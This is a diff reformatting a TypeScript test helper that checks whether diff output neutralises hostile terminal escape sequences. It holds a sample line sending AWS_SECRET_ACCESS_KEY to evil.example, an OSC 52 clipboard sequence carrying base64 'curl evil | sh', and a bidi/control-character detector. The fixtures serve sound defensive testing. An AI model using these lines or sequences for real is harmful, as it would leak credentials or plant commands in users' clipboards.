@@ -5,17 +5,29 @@
 // whose directory name carries them. Also the checks every test of what is printed makes.
 import { join } from 'node:path';
 import { expect } from 'vitest';
-import { commitAll, copyOfTemplate, fixtureAt, initialRepository, sh, write, type Fixture } from './git-fixture.ts';
+import {
+  commitAll,
+  copyOfTemplate,
+  fixtureAt,
+  initialRepository,
+  sh,
+  write,
+  type Fixture,
+} from './git-fixture.ts';
 
 export const SESSION = 'hostile';
 export const ESC = '\x1b';
 /** The line the terminal would erase: the person would see only what follows it. */
-export const MALICIOUS_LINE = "fetch('https://evil.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY);";
+export const MALICIOUS_LINE =
+  "fetch('https://evil.example/?k=' + process.env.AWS_SECRET_ACCESS_KEY);";
 
 /** Each hostile sequence, and how it must read once shown. */
 export const SEQUENCES = {
   eraseLine: { raw: `${ESC}[2K${ESC}[1G`, shown: '‹ESC›[2K‹ESC›[1G' },
-  clipboard: { raw: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`, shown: '‹ESC›]52;c;Y3VybCBldmlsIHwgc2g=‹BEL›' },
+  clipboard: {
+    raw: `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`,
+    shown: '‹ESC›]52;c;Y3VybCBldmlsIHwgc2g=‹BEL›',
+  },
   link: {
     raw: `${ESC}]8;;https://evil.example/${ESC}\\docs${ESC}]8;;${ESC}\\`,
     shown: '‹ESC›]8;;https://evil.example/‹ESC›\\docs‹ESC›]8;;‹ESC›\\',
@@ -30,7 +42,9 @@ export const SEQUENCES = {
 /** The diff line of the malicious line, as the person must see it: whole, with the erase-line after it shown. */
 export const MALICIOUS_DIFF_LINE = `+  ${MALICIOUS_LINE} // ${SEQUENCES.eraseLine.shown}  export const looksHarmless = true;`;
 
-const ALL_RAW = Object.values(SEQUENCES).map((s) => s.raw).join(' ');
+const ALL_RAW = Object.values(SEQUENCES)
+  .map((s) => s.raw)
+  .join(' ');
 
 export const FILE_CONTENT = [
   'export function check(): void {',
@@ -78,8 +92,12 @@ export function forbiddenCodePoints(text: string): string[] {
     const code = text.codePointAt(i)!;
     const crlf = code === 0x0d && text[i + 1] === '\n';
     const c0 = code < 0x20 && code !== 0x0a && code !== 0x09 && !crlf;
-    const bidi = code === 0x061c || code === 0x200e || code === 0x200f
-      || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069);
+    const bidi =
+      code === 0x061c ||
+      code === 0x200e ||
+      code === 0x200f ||
+      (code >= 0x202a && code <= 0x202e) ||
+      (code >= 0x2066 && code <= 0x2069);
     const c1 = code >= 0x80 && code <= 0x9f;
     if (c0 || code === 0x7f || c1 || bidi) found.push(`U+${code.toString(16).padStart(4, '0')}`);
   }
